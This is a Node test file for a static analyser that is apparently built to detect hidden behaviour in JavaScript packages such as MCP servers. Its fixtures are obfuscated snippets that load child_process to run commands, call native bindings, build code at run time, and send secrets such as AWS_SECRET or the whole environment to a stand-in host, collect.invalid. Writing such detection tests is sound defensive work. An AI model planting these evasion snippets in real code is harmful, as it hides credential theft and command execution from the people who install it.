import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import test from 'node:test'
import { proves } from '../../test/guide/proves.ts'
import { factsOf } from './source-facts.ts'

/** Sources that hide what they do, and what must be said of each. */
const evasions: Readonly<Record<string, readonly [source: string, ...facts: readonly string[]]>> = {
  'a computed member of a loaded module': [
    "const cp = globalThis['process']['mainModule']['require']('child_' + 'process'); cp[m]('id')",
    'child: child_process',
  ],
  'another name of process': [
    "const p = process; p.binding('fs'); send(p['env'].KEY)",
    'native: process.binding',
    'env: KEY',
  ],
  'process.binding': ["process.binding('spawn_sync').spawn({})", 'native: process.binding'],
  'process.dlopen': ["process.dlopen(module, './a.node')", 'native: process.dlopen'],
  'the constructor of an async function': [
    "Object.getPrototypeOf(async function(){}).constructor('return 1')()",
    'dynamic-code: calls a constructor taken from a value',
  ],
  'a constructor called later': [
    "const f = (() => {}).constructor; f('return 1')()",
    'dynamic-code: calls a constructor taken from a value',
  ],
  Reflect: ["Reflect.get(globalThis, 'Func' + x)", 'obfuscated: a global through Reflect.get'],
  'code kept in JSON': [
    'new (class extends Function {})(JSON.parse(text).run)()',
    'dynamic-code: a class made of Function',
  ],
  'import of a data: URL': [
    `await import('data:text/javascript,fetch("https://collect.invalid")')`,
    'dynamic-code: loads code that is no file of this package',
    'host: collect.invalid',
  ],
  'a worker made of text': [
    "import { Worker } from 'node:worker_threads'; new Worker(code, { eval: true })",
    'dynamic-code: a worker whose code is no file that the source names',
  ],
  WebAssembly: ['WebAssembly.instantiate(bytes)', 'native: WebAssembly'],
  'a getter': [
    "const o = { get x() { return globalThis.fetch } }; o.x('https://collect.invalid/')",
    'network: fetch',
    'host: collect.invalid',
  ],
  'entries of the environment': ['for (const [k, v] of Object.entries(process.env)) send(k, v)', 'env: process.env'],
  'a destructured environment': ['const { env } = process; send(env.AWS_SECRET)', 'env: AWS_SECRET'],
  'an imported environment': ["import { env as e } from 'node:process'; send(e.AWS_SECRET)", 'env: AWS_SECRET'],
  'an imported process': ["import proc from 'process'; send(JSON.stringify(proc.env))", 'env: process.env'],
  'a shell through createRequire': [
    "import { createRequire as c } from 'module'; const r = c(import.meta.url); r('child_process').execSync('id')",
    'child: child_process',
    'child: runs id',
  ],
  'a shell through the class of modules': ["module.constructor._load('child' + '_process')", 'child: child_process'],
  'another name of require': [
    'const r = require; r(name)',
    'dynamic-code: loads a module whose name is made at run time',
  ],
  'require.call': ['require.call(null, name)', 'dynamic-code: the loader through call'],
  'a destructured fetch': [
    "const { fetch: f } = globalThis; f('https://collect.invalid')",
    'network: fetch',
    'host: collect.invalid',
  ],
  'a host with a piece exchanged': ["fetch('hXXps://collect.invalid'.replace('XX', 'tt'))", 'host: collect.invalid'],
  'the values of process': ['Object.values(process).find(each => each?.API_KEY)', 'env: any variable'],
  'a worker through its module': [
    "new (require('worker_threads').Worker)(code, { eval: true })",
    'dynamic-code: a worker whose code is no file that the source names',
  ],
  'a hook of the loader': [
    "require('node:module').register('./hook.mjs')",
    'dynamic-code: a hook into the loader of modules',
  ],
  'a host among options': ["require('https').request({ host: 'col' + 'lect.invalid' })", 'host: collect.invalid'],
  'a host set into an address': [
    "const u = new URL('https://a.b'); u.hostname = 'collect.invalid'",
    'host: collect.invalid',
  ],
  'a host behind a port': ["require('net').connect(443, 'collect.invalid')", 'host: collect.invalid'],
  'a host in bytes': [
    `fetch(new TextDecoder().decode(new Uint8Array([${[...Buffer.from('https://collect.invalid')].join()}])))`,
    'host: collect.invalid',
  ],
}

for (const [how, [source, ...wanted]] of Object.entries(evasions))
  test(`${how} does not hide it`, proves('C1.source'), () => {
    const { facts } = factsOf(source, 'index.js')
    const told = facts.map(({ kind, what }) => `${kind}: ${what}`)
    for (const fact of wanted) assert.ok(told.includes(fact), `${fact} not in ${told.join(' | ')}`)
  })

test('a host put together by a loop is missed, and that something is reached is not', () => {
  const { facts } = factsOf("let h = ''; for (const c of codes) h += String.fromCharCode(c); fetch(h)", 'index.js')
  assert.deepEqual(
    facts.map(({ kind }) => kind),
    ['network'],
  )
})

test('honest servers do none of this', () => {
  const servers = 'node_modules/@modelcontextprotocol/server-{memory,filesystem,everything}/dist/**/*.js'
  const files = globSync(servers)
  assert.ok(files.length > 5)
  const found = files.flatMap(path => factsOf(readFileSync(path, 'utf8'), path).facts)
  assert.deepEqual(
    found.filter(({ kind }) => kind === 'dynamic-code' || kind === 'native'),
    [],
  )
})
